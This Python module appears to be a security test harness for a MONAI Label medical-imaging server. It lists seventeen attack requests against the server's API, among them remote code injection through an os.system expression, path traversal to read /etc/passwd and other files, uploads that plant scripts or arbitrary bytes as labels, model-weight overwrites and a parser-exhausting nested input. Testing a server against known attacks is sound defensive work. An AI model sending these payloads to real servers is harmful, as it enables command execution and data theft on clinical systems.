"""Attacks that MONAI Label's own server is known to fall to, as requests; an image `us` is there."""

import cv2
import numpy as np
import requests

MODEL = "breast_us_lesion_segmentation"


def picture():
    """Returns the picture that the attacks send."""
    return np.random.default_rng(0).integers(0, 255, (40, 60), dtype=np.uint8)


def png_of(array):
    """Returns a picture as PNG."""
    return cv2.imencode(".png", array)[1].tobytes()


ATTACKS = {
    "expression in a training": ("POST", f"/train/{MODEL}", {"json": {"max_epochs": "$__import__('os').system('id')"}}),
    "expression in an inference": ("POST", f"/infer/{MODEL}?image=us", {"data": {"params": '{"a": {"b": ["$1+1"]}}'}}),
    "reference in a next sample": ("POST", "/activelearning/first", {"json": {"a": "@network"}}),
    "image stored elsewhere": ("PUT", "/datastore/image?image=../x", {"files": {"file": ("x.png", png_of(picture()))}}),
    "image's own name elsewhere": ("PUT", "/datastore/image", {"files": {"file": ("../../x y.sh.png", b"")}}),
    "label's tag elsewhere": ("PUT", "/datastore/label?image=us&tag=../../x", {"files": {"label": ("l.png", b"")}}),
    "label of another image": ("PUT", "/datastore/label?image=../secret", {"files": {"label": ("l.png", b"")}}),
    "any bytes as a label": ("PUT", "/datastore/label?image=us", {"files": {"label": ("l.nii.gz", b"<html>oops")}}),
    "a program as a label": ("PUT", "/datastore/label?image=us", {"files": {"label": ("l.sh", b"#!/bin/sh")}}),
    "any file as an image": ("POST", f"/infer/{MODEL}?image=/etc/passwd", {"data": {"params": "{}"}}),
    "any file downloaded": ("GET", "/datastore/image?image=..%2Fsecret.png", {}),
    "weights by a path": ("POST", "/infer/..%2F..%2Fetc?image=us", {"data": {"params": "{}"}}),
    "the PACS's own interface": ("GET", "/proxy/dicom/../system", {}),
    "the PACS beside DICOMweb": ("GET", "/dicom-web/../system", {}),
    "weights overwritten": ("PUT", f"/model/{MODEL}", {"files": {"file": ("model.pt", b"x")}}),
    "app reloaded": ("POST", "/reload", {}),
    "nested too deeply": ("POST", f"/infer/{MODEL}?image=us", {"data": {"params": "[" * 50_000}}),
}


def send(attack, address):
    """Sends an attack to a server and returns the answer."""
    method, path, options = ATTACKS[attack]
    request = requests.Request(method, address, **options).prepare()
    # As it stands: requests would tidy the points away.
    request.url = address + path
    return requests.Session().send(request)
